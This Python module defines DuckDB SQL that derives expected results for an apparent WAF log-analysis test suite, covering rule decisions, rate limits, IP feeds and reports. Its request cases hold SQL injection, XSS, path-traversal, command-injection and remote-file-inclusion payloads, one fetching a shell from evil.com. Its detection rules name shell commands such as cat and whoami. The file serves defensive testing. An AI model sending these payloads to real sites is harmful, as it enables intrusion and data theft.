"""SQL that states each registered query's result, for DuckDB over the same tables.

The derived tables are restated here from ``events`` in SQL and share no code with the
Spark side.
"""

from __future__ import annotations

# Fixed values, one row per request case: number, name, expected status, method, path, query as sent.
_CASES = """
cases(case_no, test_name, expected_status, method, uri, args) AS (VALUES
  (0, 'basic_homepage', 200, 'GET', '/', ''),
  (1, 'products_page', 200, 'GET', '/', ''),
  (2, 'login_page', 200, 'GET', '/', ''),
  (3, 'legitimate_search', 200, 'GET', '/rest/products/search', 'q=apple'),
  (4, 'juice_shop_sqli', 403, 'GET', '/rest/products/search', 'q=%27%20OR%201=1--'),
  (5, 'classic_sqli_union', 403, 'GET', '/rest/products/search', 'q=apple%27%20UNION%20SELECT%20*%20FROM%20users--'),
  (6, 'xss_script_tag', 403, 'GET', '/rest/products/search', 'q=%3Cscript%3Ealert(%22xss%22)%3C/script%3E'),
  (7, 'path_traversal', 403, 'GET', '/../../etc/passwd', ''),
  (8, 'rfi_attempt', 403, 'GET', '/rest/products', 'include=http://evil.com/shell.php'),
  (9, 'command_injection', 403, 'GET', '/rest/products/search', 'q=apple;%20cat%20/etc/passwd'),
  (10, 'rate_limit_test', 200, 'GET', '/rest/products', ''),
  (11, 'malicious_user_agent', 403, 'GET', '/', ''),
  (12, 'large_header', 403, 'GET', '/', ''),
  (13, 'sqli_post_body', 403, 'POST', '/rest/user/login', '')
)"""

_LOG = f"""
WITH {_CASES},
keyed AS (
  SELECT *, CAST(json_extract_string(props, '$.k') AS INTEGER) AS k, epoch_us(ts) // 1000 AS ts_ms
  FROM events
),
log AS (
  SELECT CAST(e.event_id AS VARCHAR) AS request_id, e.event_id, e.user_id, e.k, e.ts, e.ts_ms, e.event_type, e.value,
    '10.0.' || CAST(e.user_id // 256 AS VARCHAR) || '.' || CAST(e.user_id % 256 AS VARCHAR) AS clientip,
    CASE WHEN e.k <> 99 THEN ['US','CA','GB','AU','DE','FR','JP','CN'][CAST(e.user_id % 8 + 1 AS INTEGER)] END AS country,
    c.*,
    CASE e.event_type WHEN 'error' THEN 'BLOCK' WHEN 'signup' THEN 'COUNT' ELSE 'ALLOW' END AS action,
    CASE WHEN e.event_type = 'error' THEN
      ['JuiceShopSQLiRule','AWSManagedRulesSQLiRuleSet','XSSRule','RateLimitRule','GeoRestrictionRule',
       'IPReputationRule','AWSManagedRulesCommonRuleSet','Emergency-IP-Block-1','PathTraversalRule',
       'CommandInjectionRule','RFIProtectionRule','LargeHeaderRule','CustomSQLiRule', NULL][e.k % 14 + 1]
      ELSE 'Default_Action' END AS terminatingruleid,
    strftime(e.ts, '%Y') AS year, strftime(e.ts, '%m') AS month,
    strftime(e.ts, '%d') AS day, strftime(e.ts, '%H') AS hour,
    e.event_type = 'signup' OR e.k % 20 = 0 AS counted
  FROM keyed e JOIN cases c ON c.case_no = (e.event_id + e.k) % 14
)"""

# Kept after the log filter, and the last day of that.
_DAY = f"""{_LOG},
latest AS (SELECT max(ts) AS as_of FROM events),
base AS (
  SELECT action, terminatingruleid FROM log, latest
  WHERE (action <> 'ALLOW' OR counted)
    AND make_timestamp((ts_ms // 1000) * 1000000) BETWEEN as_of - INTERVAL 1 DAY AND as_of
),
core AS (
  SELECT CAST(count(*) AS BIGINT) AS n,
    CAST(sum(CASE WHEN action = 'BLOCK' THEN 1 ELSE 0 END) AS BIGINT) AS blocked,
    CAST(sum(CASE WHEN action = 'COUNT' THEN 1 ELSE 0 END) AS BIGINT) AS counted
  FROM base
)"""


# The label that each rule id of the derived log is reported under.
_LABELS = {
    "JuiceShopSQLiRule": "SQL Injection (Juice Shop)",
    "AWSManagedRulesSQLiRuleSet": "SQL Injection (AWS Managed)",
    "CustomSQLiRule": "SQL Injection (AWS Managed)",
    "XSSRule": "Cross-Site Scripting",
    "RateLimitRule": "Rate Limiting",
    "GeoRestrictionRule": "Geographic Restriction",
    "IPReputationRule": "IP Reputation Block",
    "AWSManagedRulesCommonRuleSet": "Common Attack Patterns",
    "Emergency-IP-Block-1": "Emergency Block Rule",
    "PathTraversalRule": "PathTraversalRule",
    "CommandInjectionRule": "CommandInjectionRule",
    "RFIProtectionRule": "RFIProtectionRule",
    "LargeHeaderRule": "LargeHeaderRule",
}


def _label(rule: str) -> str:
    pairs = ", ".join(f"'{rule_id}': '{label}'" for rule_id, label in _LABELS.items())
    return f"coalesce(map_extract_value(MAP {{{pairs}}}, {rule}), 'Unknown')"


_TOP = f"""top AS (
  SELECT {_label('terminatingruleid')} AS rule_name, CAST(count(*) AS BIGINT) AS rule_block_count
  FROM base WHERE action = 'BLOCK' GROUP BY terminatingruleid
  ORDER BY count(*) DESC, terminatingruleid ASC NULLS FIRST LIMIT 5
)"""
_PERCENT = "CAST((20000 * blocked + n) // (2 * nullif(n, 0)) AS DOUBLE) / 100.0"

# Booleans of the signature rules on a row of the log.
_SIGNATURES = {
    "JuiceShopSQLiRule": "lower(uri) = '/rest/products/search' AND contains(url_decode(args), ''' OR 1=1--')",
    "PathTraversalRule": "contains(url_decode(uri), '../') OR contains(lower(url_decode(uri)), '/etc/passwd')",
    "RFIProtectionRule": "contains(lower(args), 'http://') OR contains(lower(args), 'https://')",
    "CommandInjectionRule": "len(list_filter(string_split(args, '&'), lambda a: "
    "contains(lower(url_decode(a)), '; cat') OR contains(lower(url_decode(a)), '; ls') OR "
    "contains(lower(url_decode(a)), '| cat') OR contains(lower(url_decode(a)), '& whoami'))) > 0",
    "LargeHeaderRule": "case_no = 12",
}


def _window_counts(window_ms: int) -> str:
    return f"""{_LOG},
counts AS (
  SELECT *, count(*) OVER (PARTITION BY clientip ORDER BY ts_ms RANGE BETWEEN {window_ms - 1} PRECEDING AND CURRENT ROW)
    AS window_count
  FROM log WHERE NOT contains(lower(uri), 'healthcheck')
)"""


def _breaches(limit: int, window_ms: int) -> str:
    return f"""{_window_counts(window_ms)}
SELECT request_id, clientip, ts_ms, window_count FROM counts WHERE window_count > {limit}"""


_IN_BLOCKED_RANGE = "((user_id // 256 = 0 AND (user_id % 256 < 16 OR user_id % 256 = 77)) OR user_id // 256 = 1)"
_OUTSIDE = "(country IS NULL OR country NOT IN ('US', 'CA', 'GB'))"
_WINDOW = "ts_ms - ts_ms % 300000"
_CHARTED = ("JuiceShopSQLiRule", "RateLimitRule", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet")


def _overview(where: str) -> str:
    return f"""{_LOG}
SELECT {_WINDOW} AS window_start, {_WINDOW} + 300000 AS window_end,
  CAST(count(*) FILTER (action = 'ALLOW') AS BIGINT) AS allowed_requests,
  CAST(count(*) FILTER (action = 'BLOCK') AS BIGINT) AS blocked_requests
FROM log WHERE {where} GROUP BY ALL"""


def _by_rule(where: str) -> str:
    columns = ", ".join(
        f"CAST(count(*) FILTER (terminatingruleid = '{rule}') AS BIGINT) AS \"{rule}\"" for rule in _CHARTED
    )
    return f"""{_LOG}
SELECT {_WINDOW} AS window_start, {_WINDOW} + 300000 AS window_end, {columns}
FROM log WHERE action = 'BLOCK' AND terminatingruleid IN {_CHARTED} AND {where} GROUP BY ALL"""


# What each request case is about.
_DESCRIPTIONS = """
described(case_no, description) AS (VALUES
  (0, 'Basic homepage access should be allowed'), (1, 'Products page should be accessible'),
  (2, 'Login page should be accessible'), (3, 'Legitimate product search should work'),
  (4, 'Juice Shop specific SQL injection should be blocked'),
  (5, 'Classic SQL injection UNION attack should be blocked'), (6, 'XSS script tag injection should be blocked'),
  (7, 'Path traversal attack should be blocked'), (8, 'Remote file inclusion attempt should be blocked'),
  (9, 'Command injection attempt should be blocked'), (10, 'High rate requests should eventually be blocked'),
  (11, 'Requests with suspicious user agents should be blocked'),
  (12, 'Requests with oversized headers should be blocked'), (13, 'SQL injection in POST body should be blocked')
)"""

_RESULTS = f"""{_LOG}, {_DESCRIPTIONS},
results AS (
  SELECT 'https://app.example.com' AS url, lpad(CAST(event_id // 14 AS VARCHAR), 12, '0') AS run_ts,
    cases.case_no, cases.test_name, cases.expected_status, k,
    CASE event_type WHEN 'error' THEN 403 WHEN 'signup' THEN 500 WHEN 'purchase' THEN 0 ELSE 200 END AS actual_status,
    value / 100 AS response_time,
    CASE WHEN event_type = 'purchase' THEN 'request failed' END AS error
  FROM log JOIN cases ON cases.case_no = CASE WHEN k % 3 = 0 THEN 10 ELSE log.case_no END
),
probes AS (
  SELECT url, run_ts, CAST(count(*) AS BIGINT) AS sent,
    CAST(sum(CASE WHEN actual_status = 403 OR actual_status // 100 = 5 THEN 1 ELSE 0 END) AS BIGINT) AS blocked_count,
    CAST(sum(CAST(response_time AS DECIMAL(18, 6))) AS DOUBLE) AS response_time
  FROM results WHERE test_name = 'rate_limit_test' GROUP BY url, run_ts
),
runs AS (SELECT DISTINCT url, run_ts FROM results),
scored AS (
  SELECT url, run_ts, test_name, description, expected_status, actual_status, response_time, error,
    actual_status = expected_status AS passed,
    actual_status = 403 OR k % 10 IN (0, 1) AS blocked_by_waf
  FROM results JOIN described USING (case_no) WHERE test_name <> 'rate_limit_test'
  UNION ALL
  SELECT url, run_ts, 'rate_limit_test',
    'Rate limiting test - ' || CAST(blocked_count AS VARCHAR) || '/' || CAST(sent AS VARCHAR) || ' requests blocked', CASE WHEN blocked_count < 3 THEN 200 ELSE 403 END,
    CASE WHEN blocked_count = 0 THEN 200 ELSE 403 END, response_time, NULL, blocked_count >= 3, blocked_count > 0
  FROM probes
  UNION ALL
  SELECT r.url, r.run_ts, c.test_name, d.description, c.expected_status, 0, NULL, 'no result recorded', false, false
  FROM runs r CROSS JOIN cases c JOIN described d USING (case_no)
  WHERE NOT EXISTS (
    SELECT 1 FROM results x WHERE x.url = r.url AND x.run_ts = r.run_ts AND x.test_name = c.test_name)
)"""

_FEED = f"""{_LOG},
feed AS (
  SELECT event_id AS seq,
    CASE WHEN k % 50 = 1 THEN 'Emergency-IP-Block-1'
      ELSE 'Emergency-Block-' || CAST(user_id AS VARCHAR) || '-' || CAST(k % 40 AS VARCHAR) END AS name,
    CASE k % 10 WHEN 3 THEN NULL WHEN 4 THEN clientip WHEN 7 THEN '0.0.0.0/0' WHEN 8 THEN '0.0.0.0/1'
      ELSE clientip || '/' || CAST(k % 40 AS VARCHAR) END AS ip,
    CASE WHEN k % 10 = 3 THEN uri END AS uri_pattern,
    user_id, k
  FROM log
),
judged AS (
  SELECT *, CASE
      WHEN k % 10 = 3 AND (length(uri_pattern) < 2 OR length(uri_pattern) > 200) THEN 'pattern length'
      WHEN k % 10 = 3 AND uri_pattern IN ('/', '*', '.*', '.+') THEN 'pattern too broad'
      WHEN k % 10 = 7 THEN 'protected range'
      WHEN k % 10 NOT IN (3, 4, 7, 8) AND k % 40 > 32 THEN 'invalid range' END AS reason
  FROM feed
),
validated AS (
  SELECT *, reason IS NULL AS valid,
    CASE WHEN reason IS NULL THEN CASE WHEN contains(ip, '/') THEN ip ELSE ip || '/32' END END AS cidr
  FROM judged
)"""

_RULES = """rules(name, priority, action) AS (VALUES
  ('JuiceShopSQLiRule', 100, 'BLOCK'), ('PathTraversalRule', 140, 'BLOCK'), ('RFIProtectionRule', 145, 'BLOCK'),
  ('CommandInjectionRule', 150, 'BLOCK'), ('LargeHeaderRule', 160, 'BLOCK'), ('RateLimitRule', 200, 'BLOCK'),
  ('GeoRestrictionRule', 300, 'BLOCK'), ('IPReputationRule', 400, 'BLOCK'),
  ('AWSManagedRulesCommonRuleSet', 500, 'NONE'), ('AWSManagedRulesSQLiRuleSet', 600, 'NONE'),
  ('Emergency-IP-Block-1', 50, 'BLOCK')
)"""

_NOT_BROKEN = "event_id % 50 <> 7"

STATEMENTS: dict[str, str] = {
    "log_scan": f"""{_LOG}
SELECT request_id, ts_ms, clientip, country, method, uri, args,
  CASE WHEN case_no = 11 THEN 'sqlmap/1.0 (http://sqlmap.org)' ELSE 'test' END AS user_agent,
  action, terminatingruleid, year, month, day, hour
FROM log
WHERE date_trunc('hour', ts) BETWEEN
  (SELECT date_trunc('hour', min(ts) + INTERVAL 3 DAY) FROM events) AND
  (SELECT date_trunc('hour', min(ts) + INTERVAL 12 DAY) FROM events)""",
    "error_routing": f"""{_LOG}
SELECT CASE WHEN {_NOT_BROKEN} THEN 'logs' ELSE 'errors' END AS destination,
  CASE WHEN {_NOT_BROKEN} THEN action END AS action, CAST(count(*) AS BIGINT) AS lines,
  CAST(max(CASE WHEN NOT ({_NOT_BROKEN}) THEN 40 END) AS INTEGER) AS longest_error
FROM log GROUP BY ALL""",
    "whole_lines": f"""{_LOG}
SELECT 'nothing' AS read, CAST(NULL AS VARCHAR) AS value, CAST(count(*) AS BIGINT) AS lines FROM log WHERE {_NOT_BROKEN}
UNION ALL SELECT 'action', action, CAST(count(*) AS BIGINT) FROM log WHERE {_NOT_BROKEN} GROUP BY action
UNION ALL SELECT 'client', clientip, CAST(count(*) AS BIGINT) FROM log WHERE {_NOT_BROKEN} GROUP BY clientip
UNION ALL SELECT 'errors', '40', CAST(count(*) AS BIGINT) FROM log WHERE NOT ({_NOT_BROKEN})""",
    "retained_partitions": f"""{_LOG}
SELECT year, month, day, hour, CAST(count(*) AS BIGINT) AS requests FROM log
WHERE CAST(ts AS DATE) >= (SELECT CAST(max(ts) AS DATE) - 7 FROM events) GROUP BY ALL""",
    "expired_partitions": f"""{_LOG}
SELECT year, month, day, hour, CAST(count(*) AS BIGINT) AS requests FROM log
WHERE CAST(ts AS DATE) >= (SELECT CAST(max(ts) AS DATE) - 7 FROM events) GROUP BY ALL""",
    "stream_ingest": f"""{_LOG}
SELECT 'logs' AS destination, year || '-' || month || '-' || day AS day, action, 'REDACTED' AS cookie,
  CAST(count(*) AS BIGINT) AS lines
FROM log WHERE {_NOT_BROKEN} AND (action <> 'ALLOW' OR counted) GROUP BY ALL
UNION ALL
SELECT 'errors', NULL, NULL, NULL, CAST(count(*) AS BIGINT) FROM log WHERE NOT ({_NOT_BROKEN})""",
    "kpi_report": f"""{_DAY}, {_TOP}
SELECT 'CORE_METRICS' AS metric_type, n AS total_requests, blocked AS blocked_requests,
  {_PERCENT} AS percent_blocked, 'logged_counts' AS rule_name, counted AS rule_block_count FROM core
UNION ALL
SELECT 'TOP_ATTACK_VECTORS', 0, 0, 0.0, rule_name, rule_block_count FROM top""",
    "core_metrics": f"""{_DAY}
SELECT n AS total_requests, blocked AS blocked_requests, counted AS counted_requests,
  {_PERCENT} AS percent_blocked FROM core""",
    "top_attack_vectors": f"{_DAY}, {_TOP} SELECT rule_name, rule_block_count FROM top",
    "attack_labels": f"""{_LOG}
SELECT terminatingruleid, {_label('terminatingruleid')} AS label, CAST(count(*) AS BIGINT) AS blocks
FROM log WHERE action = 'BLOCK' GROUP BY terminatingruleid""",
    "rule_flags": f"{_LOG} SELECT request_id, "
    + ", ".join(f"({test}) AS {rule}" for rule, test in _SIGNATURES.items())
    + " FROM log",
    "rule_decision": f"""{_FEED}, latest AS (SELECT max(ts) AS last FROM events),
hosts AS (
  SELECT ip, name, seq FROM validated v JOIN log ON log.event_id = v.seq, latest
  WHERE log.ts >= last - INTERVAL 1 DAY AND valid AND (ip NOT LIKE '%/%' OR ip LIKE '%/32') AND name NOT IN
    ('JuiceShopSQLiRule', 'PathTraversalRule', 'RFIProtectionRule', 'CommandInjectionRule', 'LargeHeaderRule')
),
emergency AS (
  SELECT string_split(first(ip ORDER BY seq), '/')[1] AS clientip, name FROM hosts GROUP BY name
),
by_client AS (SELECT clientip, min(name) AS emergency FROM emergency GROUP BY clientip),
counts AS (
  SELECT *, count(*) OVER (PARTITION BY clientip ORDER BY ts_ms RANGE BETWEEN 86399999 PRECEDING AND CURRENT ROW)
    AS window_count
  FROM log WHERE NOT contains(lower(uri), 'healthcheck')
),
decided AS (
  SELECT request_id, CASE WHEN emergency IS NOT NULL THEN emergency
    {' '.join(f"WHEN ({test}) THEN '{rule}'" for rule, test in _SIGNATURES.items())}
    WHEN window_count > 6 THEN 'RateLimitRule'
    WHEN {_OUTSIDE} THEN 'GeoRestrictionRule'
    WHEN {_IN_BLOCKED_RANGE} THEN 'IPReputationRule'
    ELSE 'Default_Action' END AS terminatingruleid
  FROM counts LEFT JOIN by_client USING (clientip)
)
SELECT request_id, terminatingruleid,
  CASE WHEN terminatingruleid = 'Default_Action' THEN 'ALLOW' ELSE 'BLOCK' END AS action FROM decided""",
    "emergency_decision": f"""{_FEED}, rules AS (
  SELECT name, cidr, uri_pattern, CASE WHEN k % 10 = 8 THEN 0 ELSE user_id + 10 * 16777216 END AS address
  FROM validated v WHERE valid AND seq = (SELECT min(seq) FROM validated w WHERE w.valid AND w.name = v.name)
),
ranges AS (
  SELECT address, CAST(string_split(cidr, '/')[2] AS INTEGER) AS len, min(name) AS name FROM rules WHERE cidr IS NOT NULL
  GROUP BY ALL
),
by_client AS (
  SELECT clientip, min(name) AS name FROM (SELECT DISTINCT clientip, user_id + 10 * 16777216 AS address FROM log) a
  JOIN ranges r ON a.address // CAST(pow(2, 32 - r.len) AS BIGINT) = r.address // CAST(pow(2, 32 - r.len) AS BIGINT)
  GROUP BY clientip
),
by_path AS (
  SELECT uri, min(name) AS name FROM (SELECT DISTINCT uri FROM log) p
  JOIN (SELECT uri_pattern, min(name) AS name FROM rules WHERE uri_pattern IS NOT NULL GROUP BY uri_pattern) r
  ON contains(lower(url_decode(uri)), uri_pattern) GROUP BY uri
)
SELECT request_id, least(by_client.name, by_path.name) AS rule,
  CASE WHEN coalesce(by_client.name, by_path.name) IS NOT NULL THEN 50 END AS priority
FROM log LEFT JOIN by_client USING (clientip) LEFT JOIN by_path USING (uri)""",
    "ip_set_hits": f"{_LOG} SELECT request_id, clientip FROM log WHERE {_IN_BLOCKED_RANGE}",
    "geo_blocked": f"{_LOG} SELECT request_id, country FROM log WHERE {_OUTSIDE}",
    "uri_pattern_hits": f"""{_LOG}, patterns(pattern) AS (VALUES ('etc/passwd'), ('user/login'), ('Admin/Backdoor'))
SELECT request_id, pattern FROM log, patterns WHERE contains(lower(url_decode(uri)), pattern)""",
    "rate_limit_breaches": _breaches(1, 300_000),
    "rate_limit_daily": _breaches(6, 86_400_000),
    "stream_request_breaches": _breaches(1, 300_000),
    "overridden_actions": f"""{_LOG}, groups AS (
  SELECT 'AWS#' || terminatingruleid AS rulegroupid,
    CASE WHEN terminatingruleid = 'AWSManagedRulesSQLiRuleSet' THEN 'SQLi_QUERYARGUMENTS'
      WHEN k % 4 = 2 THEN 'SizeRestrictions_BODY' ELSE 'CrossSiteScripting_QUERYARGUMENTS' END AS ruleid
  FROM log WHERE starts_with(terminatingruleid, 'AWSManaged')
)
SELECT rulegroupid, ruleid, CASE WHEN ruleid = 'SizeRestrictions_BODY' THEN 'COUNT' ELSE 'BLOCK' END AS action,
  CAST(count(*) AS BIGINT) AS matches FROM groups GROUP BY ALL""",
    "log_filter": f"{_LOG} SELECT request_id, action FROM log WHERE action <> 'ALLOW' OR counted",
    "redacted_headers": f"""{_LOG}, headers AS (
  SELECT request_id, 'Host' AS name, 'app.example.com' AS value FROM log
  UNION ALL
  SELECT request_id, 'User-Agent', CASE WHEN case_no = 11 THEN 'sqlmap/1.0 (http://sqlmap.org)' ELSE 'test' END FROM log
  UNION ALL
  SELECT request_id, 'Cookie', 'REDACTED' FROM log
  UNION ALL
  SELECT request_id, 'X-Large-Header', repeat('A', 8192) FROM log WHERE case_no = 12
)
SELECT request_id, name, value FROM headers""",
    "traffic_overview": _overview("true"),
    "blocked_by_rule": _by_rule("true"),
    "acl_series": f"""{_LOG}, named AS (
  SELECT *, ts_ms - ts_ms % 86400000 AS window_start, terminatingruleid AS ruleid,
    CASE WHEN k % 5 <> 1 THEN 'app-' || CAST(user_id % 4 AS VARCHAR) END AS acl_name
  FROM log
)
SELECT window_start, window_start + 86400000 AS window_end, acl_name, ruleid, grouping(acl_name) = 1 AS all_acls,
  grouping(ruleid) = 1 AS all_rules, CAST(count(*) FILTER (action = 'ALLOW') AS BIGINT) AS allowed_requests,
  CAST(count(*) FILTER (action = 'BLOCK') AS BIGINT) AS blocked_requests
FROM named GROUP BY GROUPING SETS ((window_start, acl_name, ruleid), (window_start, acl_name), (window_start, ruleid), (window_start))""",
    "stream_overview": _overview("true"),
    "stream_blocked_by_rule": _by_rule("true"),
    "stream_rate_breaches": f"""{_LOG}, placed AS (
  SELECT clientip, ts_ms - ts_ms % 30000 - 30000 * s.n AS window_start
  FROM log, (SELECT unnest(range(10)) AS n) s WHERE NOT contains(lower(uri), 'healthcheck')
)
SELECT window_start, window_start + 300000 AS window_end, clientip, CAST(count(*) AS BIGINT) AS requests
FROM placed GROUP BY ALL HAVING count(*) > 1""",
    "score_results": f"""{_RESULTS}
SELECT run_ts, test_name, description, expected_status, actual_status, passed, blocked_by_waf, error,
  CAST(count(*) AS BIGINT) AS results FROM scored GROUP BY ALL""",
    "run_summary": f"""{_RESULTS}
SELECT url, run_ts, CAST(count(*) AS BIGINT) AS total_tests, CAST(count(*) FILTER (passed) AS BIGINT) AS passed_tests,
  CAST(count(*) FILTER (NOT passed) AS BIGINT) AS failed_tests,
  CAST(coalesce(sum(CAST(response_time AS DECIMAL(18, 6))), 0) AS DOUBLE) AS execution_time,
  CAST((2000 * count(*) FILTER (passed) + count(*)) // (2 * count(*)) AS DOUBLE) / 10.0 AS success_rate
FROM scored GROUP BY url, run_ts""",
    "category_summary": f"""{_RESULTS}
SELECT url, run_ts, expected_status, CAST(count(*) FILTER (passed) AS BIGINT) AS passed_tests,
  CAST(count(*) AS BIGINT) AS total_tests
FROM scored WHERE expected_status IN (200, 403) GROUP BY url, run_ts, expected_status""",
    "missed_attacks": f"""{_RESULTS}, labelled AS (
  SELECT run_ts, test_name, CASE WHEN expected_status = 403 AND actual_status = 200 THEN 'attack not blocked'
    WHEN expected_status = 200 AND actual_status = 403 THEN 'false positive' END AS outcome
  FROM scored WHERE NOT passed
)
SELECT run_ts, test_name, outcome, CAST(count(*) AS BIGINT) AS results FROM labelled
WHERE outcome IS NOT NULL GROUP BY ALL""",
    "rate_probe": f"""{_RESULTS}
SELECT url, run_ts, sent, blocked_count, response_time, blocked_count >= 3 AS passed,
  CASE WHEN blocked_count >= 3 THEN 403 ELSE 200 END AS expected_status,
  CASE WHEN blocked_count > 0 THEN 403 ELSE 200 END AS actual_status,
  blocked_count > 0 AS blocked_by_waf FROM probes""",
    "run_severity": f"""{_RESULTS}
SELECT url, run_ts, CASE WHEN bool_or(NOT passed AND expected_status = 403) THEN 2
  WHEN bool_or(NOT passed) THEN 1 ELSE 0 END AS severity FROM scored GROUP BY url, run_ts""",
    "suite_documents": f"""{_RESULTS}, sized AS (
  SELECT url, run_ts, count(*) AS n, count(*) FILTER (passed) AS p FROM scored GROUP BY url, run_ts)
SELECT s.url, s.run_ts AS timestamp, CAST(n AS BIGINT) AS total_tests, CAST(p AS BIGINT) AS passed_tests,
  test_name, CAST(count(*) AS BIGINT) AS results, CAST(count(*) FILTER (passed) AS BIGINT) AS passed
FROM scored s JOIN sized z ON z.url = s.url AND z.run_ts = s.run_ts GROUP BY ALL""",
    "suite_files": f"""{_RESULTS}
SELECT url, test_name, description, passed, error, blocked_by_waf, CAST(count(*) AS BIGINT) AS results,
  CAST(count(response_time) AS BIGINT) AS timed FROM scored GROUP BY ALL""",
    "indicator_validation": f"{_FEED} SELECT seq, name, ip, uri_pattern, valid, reason, cidr FROM validated",
    "merged_indicators": f"""{_FEED}, {_RULES}
SELECT name, NULL::VARCHAR AS cidr, NULL::VARCHAR AS uri_pattern FROM rules
UNION ALL
SELECT name, cidr, uri_pattern FROM validated v
WHERE valid AND name NOT IN (SELECT name FROM rules)
  AND seq = (SELECT min(seq) FROM validated w WHERE w.valid AND w.name = v.name)""",
    "feed_hits": f"""{_FEED}, addresses AS (
  SELECT DISTINCT clientip, user_id + 10 * 16777216 AS address FROM log
),
ranges AS (
  SELECT DISTINCT CAST(string_split(cidr, '/')[2] AS INTEGER) AS len,
    CASE WHEN k % 10 = 8 THEN 0 ELSE user_id + 10 * 16777216 END AS address
  FROM validated WHERE valid AND cidr IS NOT NULL
),
narrowest AS (
  SELECT a.clientip, max(r.len) AS prefix_length FROM addresses a JOIN ranges r
  ON a.address // CAST(pow(2, 32 - r.len) AS BIGINT) = r.address // CAST(pow(2, 32 - r.len) AS BIGINT)
  GROUP BY a.clientip
)
SELECT clientip, prefix_length, CAST(count(*) AS BIGINT) AS requests FROM log JOIN narrowest USING (clientip)
GROUP BY clientip, prefix_length""",
    "emergency_blocks": f"""{_LOG}, {_RULES}
SELECT name, priority, action, name AS metric_name,
  (SELECT CAST(count(*) AS BIGINT) FROM log WHERE log.terminatingruleid = rules.name) AS blocks
FROM rules WHERE priority <= 100 AND name LIKE '%Emergency%'""",
    "acl_scope": f"""{_LOG}
SELECT CASE k % 5 WHEN 1 THEN NULL WHEN 0 THEN 'CLOUDFRONT' ELSE 'REGIONAL' END AS scope,
  CASE WHEN k % 5 <> 1 THEN 'app-' || CAST(user_id % 4 AS VARCHAR) END AS acl_name,
  CASE WHEN k % 5 <> 1 THEN 'id-' || CAST(user_id % 4 AS VARCHAR) END AS acl_id,
  CAST(count(*) AS BIGINT) AS requests FROM log GROUP BY ALL""",
    "count_matches_by_rule": f"""{_LOG}
SELECT 'SizeRestrictions_BODY' AS ruleid, CAST(count(*) AS BIGINT) AS matches FROM log WHERE counted GROUP BY ALL""",
    "rule_group_matches": f"""{_LOG}
SELECT request_id, 'AWS#' || terminatingruleid AS rulegroupid,
  CASE WHEN terminatingruleid = 'AWSManagedRulesSQLiRuleSet' THEN 'SQLi_QUERYARGUMENTS'
    WHEN k % 4 = 2 THEN 'SizeRestrictions_BODY' ELSE 'CrossSiteScripting_QUERYARGUMENTS' END AS ruleid,
  'BLOCK' AS action,
  CASE WHEN k % 3 = 0 THEN 'NoUserAgent_HEADER' END AS inner_ruleid,
  CASE WHEN k % 3 = 0 THEN 'COUNT' END AS inner_action
FROM log WHERE starts_with(terminatingruleid, 'AWSManaged')""",
    "matched_data": f"""{_LOG}, groups AS (
  SELECT *, 'AWS#' || terminatingruleid AS rulegroupid,
    CASE WHEN terminatingruleid = 'AWSManagedRulesSQLiRuleSet' THEN 'SQLi_QUERYARGUMENTS'
      WHEN k % 4 = 2 THEN 'SizeRestrictions_BODY' ELSE 'CrossSiteScripting_QUERYARGUMENTS' END AS ruleid
  FROM log WHERE starts_with(terminatingruleid, 'AWSManaged')
)
SELECT request_id, terminatingruleid, 'terminatingrulematchdetails' AS source, CAST(NULL AS VARCHAR) AS rulegroupid,
  terminatingruleid AS ruleid, CASE WHEN contains(terminatingruleid, 'SQLi') THEN 'SQL_INJECTION' ELSE 'XSS' END AS conditiontype,
  'HIGH' AS sensitivitylevel, 'ALL_QUERY_ARGS' AS location, unnest(['k' || CAST(k AS VARCHAR), event_type]) AS datum
FROM log WHERE contains(terminatingruleid, 'SQLi') OR contains(terminatingruleid, 'XSS')
UNION ALL
SELECT request_id, terminatingruleid, 'rulegrouplist.terminatingrule.rulematchdetails', rulegroupid, ruleid,
  'XSS', 'LOW', 'BODY', 'g' || CAST(k AS VARCHAR) FROM groups WHERE k % 4 = 1
UNION ALL
SELECT request_id, terminatingruleid, 'rulegrouplist.nonterminatingmatchingrules.rulematchdetails', rulegroupid,
  'NoUserAgent_HEADER', 'XSS', 'LOW', 'HEADER', unnest(['i' || CAST(k AS VARCHAR), event_type]) FROM groups WHERE k % 6 = 0
UNION ALL
SELECT request_id, terminatingruleid, 'nonterminatingmatchingrules.rulematchdetails', NULL, 'SizeRestrictions_BODY',
  'XSS', 'LOW', 'BODY', 'n' || CAST(k AS VARCHAR) FROM log WHERE counted AND k % 10 = 0""",
    "excluded_rules": f"""{_LOG}
SELECT request_id, 'AWS#' || terminatingruleid AS rulegroupid, 'EXCLUDED_AS_COUNT' AS exclusiontype,
  'GenericRFI_BODY' AS ruleid FROM log WHERE starts_with(terminatingruleid, 'AWSManaged') AND k % 5 = 0""",
    "rate_rules": f"""{_LOG}
SELECT 'RateLimitRule' AS ratebasedruleid, 'IP' AS limitkey, CAST(50 AS INTEGER) AS maxrateallowed,
  CAST(count(*) AS BIGINT) AS requests
FROM log WHERE terminatingruleid = 'RateLimitRule' GROUP BY ALL""",
    "label_counts": f"""{_LOG}
SELECT 'geo:' || country AS label, CAST(count(*) AS BIGINT) AS requests FROM log
WHERE country IS NOT NULL GROUP BY ALL""",
}

# Folders by delivery change nothing in the report.
STATEMENTS["kpi_by_delivery"] = STATEMENTS["kpi_report"]
STATEMENTS["kpi_from_states"] = STATEMENTS["kpi_report"]
